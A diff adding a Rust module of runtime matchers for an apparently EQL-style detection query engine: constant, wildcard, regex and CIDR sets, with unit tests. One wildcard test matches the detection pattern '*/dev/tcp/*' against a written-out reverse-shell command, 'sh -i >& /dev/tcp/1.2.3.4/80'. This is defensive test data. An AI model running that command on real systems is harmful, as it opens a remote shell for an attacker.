@@ -1,0 +1,368 @@
+//! Runtime matchers built once when a program loads: constant sets (hashed when large),
+//! wildcard sets (exact / prefix / suffix / contains fast paths, the rest in one automaton),
+//! regular-expression sets, and CIDR sets as sorted address ranges.
+
+use crate::value::{canonical, Scalar};
+use ahash::AHashSet;
+use aho_corasick::AhoCorasick;
+use eql_bytecode::{CidrSet, ConstSet, ConstVal, RegexSet, WildcardSet};
+use regex_automata::meta::Regex;
+use regex_automata::util::syntax;
+use std::net::IpAddr;
+
+/// Lower-cases ASCII letters of `s` into `buf` (reused) and returns it.
+pub fn ascii_lower<'b>(s: &str, buf: &'b mut String) -> &'b str {
+    buf.clear();
+    buf.push_str(s);
+    buf.make_ascii_lowercase();
+    buf
+}
+
+/// A constant set ready for lookups.
+#[derive(Debug)]
+pub struct RtSet {
+    small: Vec<Box<str>>,
+    hashed: AHashSet<Box<str>>,
+    numbers: Vec<f64>,
+    ips: Vec<IpAddr>,
+    bools: Vec<bool>,
+    pub case_insensitive: bool,
+}
+
+const HASH_FROM: usize = 8;
+
+impl RtSet {
+    pub fn new(set: &ConstSet) -> RtSet {
+        let mut rt = RtSet {
+            small: Vec::new(),
+            hashed: AHashSet::new(),
+            numbers: Vec::new(),
+            ips: Vec::new(),
+            bools: Vec::new(),
+            case_insensitive: set.case_insensitive,
+        };
+        let mut strings = Vec::new();
+        for item in &set.items {
+            match item {
+                ConstVal::Str(s) => {
+                    let s = if set.case_insensitive {
+                        s.to_ascii_lowercase()
+                    } else {
+                        s.clone()
+                    };
+                    // A string member also matches an IP field holding that address.
+                    if let Ok(ip) = s.parse::<IpAddr>() {
+                        rt.ips.push(canonical(ip));
+                    }
+                    strings.push(s.into_boxed_str());
+                }
+                ConstVal::Int(i) => rt.numbers.push(*i as f64),
+                ConstVal::Float(x) => rt.numbers.push(*x),
+                ConstVal::Ip(ip) => rt.ips.push(canonical(*ip)),
+                ConstVal::Bool(b) => rt.bools.push(*b),
+                ConstVal::Null => {}
+            }
+        }
+        if strings.len() >= HASH_FROM {
+            rt.hashed = strings.into_iter().collect();
+        } else {
+            rt.small = strings;
+        }
+        rt
+    }
+
+    /// Whether a string (already lower-cased when the set is case-insensitive) is a member.
+    fn has_str(&self, s: &str) -> bool {
+        if self.hashed.is_empty() {
+            self.small.iter().any(|m| &**m == s)
+        } else {
+            self.hashed.contains(s)
+        }
+    }
+
+    pub fn contains(&self, v: Scalar<'_>, buf: &mut String) -> bool {
+        match v {
+            Scalar::Str(s) => {
+                if self.case_insensitive && s.bytes().any(|b| b.is_ascii_uppercase()) {
+                    let lower = ascii_lower(s, buf);
+                    self.has_str(lower)
+                } else {
+                    self.has_str(s)
+                }
+            }
+            Scalar::Int(i) | Scalar::Date(i) => self.numbers.contains(&(i as f64)),
+            Scalar::Float(x) => self.numbers.contains(&x),
+            Scalar::Ip(ip) => self.ips.contains(&canonical(ip)),
+            Scalar::Bool(b) => self.bools.contains(&b),
+            Scalar::Null | Scalar::Object => false,
+        }
+    }
+}
+
+/// One fast-path wildcard shape.
+#[derive(Debug)]
+enum Shape {
+    Exact(String),
+    Prefix(String),
+    Suffix(String),
+    /// `*` alone, or patterns that match everything.
+    Any,
+}
+
+/// A wildcard set ready for matching.
+#[derive(Debug)]
+pub struct RtWildcard {
+    shapes: Vec<Shape>,
+    contains: Option<AhoCorasick>,
+    general: Option<Regex>,
+    case_insensitive: bool,
+}
+
+fn classify(p: &str) -> Option<Result<Shape, String>> {
+    let inner_wild = |s: &str| s.contains(['*', '?']);
+    if !inner_wild(p) {
+        return Some(Ok(Shape::Exact(p.to_string())));
+    }
+    if p.chars().all(|c| c == '*') {
+        return Some(Ok(Shape::Any));
+    }
+    if let Some(body) = p.strip_prefix('*').and_then(|b| b.strip_suffix('*')) {
+        if !inner_wild(body) {
+            return Some(Err(body.to_string()));
+        }
+    }
+    if let Some(body) = p.strip_suffix('*') {
+        if !inner_wild(body) {
+            return Some(Ok(Shape::Prefix(body.to_string())));
+        }
+    }
+    if let Some(body) = p.strip_prefix('*') {
+        if !inner_wild(body) {
+            return Some(Ok(Shape::Suffix(body.to_string())));
+        }
+    }
+    None
+}
+
+/// The regex (regex-syntax syntax) for a wildcard pattern; case folding, when asked, is
+/// ASCII-only, as Elasticsearch does it.
+pub fn wildcard_regex(p: &str, ci: bool) -> String {
+    let mut out = String::from(r"\A");
+    for c in p.chars() {
+        match c {
+            '*' => out.push_str("(?s:.*)"),
+            '?' => out.push_str("(?s:.)"),
+            c if ci && c.is_ascii_alphabetic() => {
+                out.push('[');
+                out.push(c.to_ascii_lowercase());
+                out.push(c.to_ascii_uppercase());
+                out.push(']');
+            }
+            c => out.push_str(&regex_syntax::escape(c.encode_utf8(&mut [0; 4]))),
+        }
+    }
+    out.push_str(r"\z");
+    out
+}
+
+impl RtWildcard {
+    pub fn new(set: &WildcardSet) -> Result<RtWildcard, String> {
+        let ci = set.case_insensitive;
+        let fold = |s: String| if ci { s.to_ascii_lowercase() } else { s };
+        let mut shapes = Vec::new();
+        let mut contains = Vec::new();
+        let mut general = Vec::new();
+        for p in &set.patterns {
+            match classify(p) {
+                Some(Ok(Shape::Exact(s))) => shapes.push(Shape::Exact(fold(s))),
+                Some(Ok(Shape::Prefix(s))) => shapes.push(Shape::Prefix(fold(s))),
+                Some(Ok(Shape::Suffix(s))) => shapes.push(Shape::Suffix(fold(s))),
+                Some(Ok(Shape::Any)) => shapes.push(Shape::Any),
+                Some(Err(body)) => contains.push(body),
+                None => general.push(wildcard_regex(p, ci)),
+            }
+        }
+        let contains = if contains.is_empty() {
+            None
+        } else {
+            Some(
+                AhoCorasick::builder()
+                    .ascii_case_insensitive(ci)
+                    .build(&contains)
+                    .map_err(|e| format!("wildcard set: {e}"))?,
+            )
+        };
+        let general = if general.is_empty() {
+            None
+        } else {
+            Some(Regex::new_many(&general).map_err(|e| format!("wildcard set: {e}"))?)
+        };
+        Ok(RtWildcard {
+            shapes,
+            contains,
+            general,
+            case_insensitive: ci,
+        })
+    }
+
+    pub fn matches(&self, s: &str) -> bool {
+        let ci = self.case_insensitive;
+        let eq = |a: &[u8], b: &[u8]| {
+            if ci {
+                a.eq_ignore_ascii_case(b)
+            } else {
+                a == b
+            }
+        };
+        let bytes = s.as_bytes();
+        for shape in &self.shapes {
+            let hit = match shape {
+                Shape::Any => true,
+                Shape::Exact(p) => eq(bytes, p.as_bytes()),
+                Shape::Prefix(p) => bytes.len() >= p.len() && eq(&bytes[..p.len()], p.as_bytes()),
+                Shape::Suffix(p) => {
+                    bytes.len() >= p.len() && eq(&bytes[bytes.len() - p.len()..], p.as_bytes())
+                }
+            };
+            if hit {
+                return true;
+            }
+        }
+        if let Some(ac) = &self.contains {
+            if ac.is_match(s) {
+                return true;
+            }
+        }
+        self.general.as_ref().is_some_and(|re| re.is_match(s))
+    }
+}
+
+/// A regular-expression set ready for matching.
+#[derive(Debug)]
+pub struct RtRegex {
+    re: Regex,
+}
+
+impl RtRegex {
+    pub fn new(set: &RegexSet) -> Result<RtRegex, String> {
+        let anchored: Vec<String> = set
+            .patterns
+            .iter()
+            .map(|p| format!(r"\A(?:{p})\z"))
+            .collect();
+        let re = Regex::builder()
+            .syntax(syntax::Config::new().case_insensitive(set.case_insensitive))
+            .build_many(&anchored)
+            .map_err(|e| format!("regex set: {e}"))?;
+        Ok(RtRegex { re })
+    }
+
+    pub fn matches(&self, s: &str) -> bool {
+        self.re.is_match(s)
+    }
+}
+
+/// A CIDR set as sorted, merged address ranges.
+#[derive(Debug, Default)]
+pub struct RtCidr {
+    v4: Vec<(u32, u32)>,
+    v6: Vec<(u128, u128)>,
+}
+
+fn merge<T: Ord + Copy>(mut ranges: Vec<(T, T)>) -> Vec<(T, T)> {
+    ranges.sort();
+    let mut out: Vec<(T, T)> = Vec::with_capacity(ranges.len());
+    for (lo, hi) in ranges {
+        match out.last_mut() {
+            Some(last) if lo <= last.1 => last.1 = last.1.max(hi),
+            _ => out.push((lo, hi)),
+        }
+    }
+    out
+}
+
+fn within<T: Ord + Copy>(ranges: &[(T, T)], x: T) -> bool {
+    let i = ranges.partition_point(|r| r.0 <= x);
+    i > 0 && ranges[i - 1].1 >= x
+}
+
+impl RtCidr {
+    pub fn new(set: &CidrSet) -> RtCidr {
+        let mut v4 = Vec::new();
+        let mut v6 = Vec::new();
+        for net in &set.nets {
+            match net {
+                ipnet::IpNet::V4(n) => v4.push((u32::from(n.network()), u32::from(n.broadcast()))),
+                ipnet::IpNet::V6(n) => {
+                    v6.push((u128::from(n.network()), u128::from(n.broadcast())))
+                }
+            }
+        }
+        RtCidr {
+            v4: merge(v4),
+            v6: merge(v6),
+        }
+    }
+
+    pub fn contains(&self, ip: IpAddr) -> bool {
+        match canonical(ip) {
+            IpAddr::V4(a) => within(&self.v4, u32::from(a)),
+            IpAddr::V6(a) => within(&self.v6, u128::from(a)),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn wc(patterns: &[&str], ci: bool) -> RtWildcard {
+        let set = WildcardSet {
+            patterns: patterns.iter().map(|s| s.to_string()).collect(),
+            case_insensitive: ci,
+        };
+        match RtWildcard::new(&set) {
+            Ok(w) => w,
+            Err(e) => panic!("{e}"),
+        }
+    }
+
+    #[test]
+    fn wildcard_shapes() {
+        let w = wc(&["*/dev/tcp/*", "bash", "/usr/*", "*.exe", "a?c*d"], true);
+        assert!(w.matches("sh -i >& /DEV/TCP/1.2.3.4/80"));
+        assert!(w.matches("BASH"));
+        assert!(w.matches("/USR/bin/x"));
+        assert!(w.matches("evil.EXE"));
+        assert!(w.matches("abcXd"));
+        assert!(
+            w.matches("aécd"),
+            "? is one character, even a multi-byte one"
+        );
+        assert!(!w.matches("abd"));
+        assert!(!w.matches("bash2"));
+        let cs = wc(&["*/dev/tcp/*"], false);
+        assert!(!cs.matches("/DEV/TCP/x"));
+    }
+
+    #[test]
+    fn case_folding_is_ascii_only() {
+        let w = wc(&["é*"], true);
+        assert!(!w.matches("É"));
+    }
+
+    #[test]
+    fn cidr_ranges() {
+        let nets = ["127.0.0.0/8", "169.254.0.0/16", "::1/128"]
+            .iter()
+            .filter_map(|n| n.parse().ok())
+            .collect();
+        let c = RtCidr::new(&CidrSet { nets });
+        let ip = |s: &str| s.parse::<IpAddr>().unwrap_or(IpAddr::from([0, 0, 0, 0]));
+        assert!(c.contains(ip("127.1.2.3")));
+        assert!(c.contains(ip("::1")));
+        assert!(c.contains(ip("::ffff:127.0.0.1")));
+        assert!(!c.contains(ip("128.0.0.1")));
+        assert!(!c.contains(ip("::2")));
+    }
+}
